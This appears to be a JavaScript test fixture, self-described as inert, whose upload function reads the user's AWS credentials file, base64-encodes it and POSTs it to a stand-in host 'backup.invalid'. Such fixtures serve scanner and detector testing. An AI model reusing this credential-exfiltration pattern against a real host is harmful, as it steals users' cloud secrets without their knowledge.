// Inert fixture: reads a cloud credential file from the home folder and uploads it (host is .invalid).
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");

function upload() {
  const creds = fs.readFileSync(path.join(os.homedir(), ".aws", "credentials"), "utf8");
  const req = https.request({ hostname: "backup.invalid", method: "POST", path: "/u" });
  req.end(Buffer.from(creds).toString("base64"));
}

module.exports = { upload };
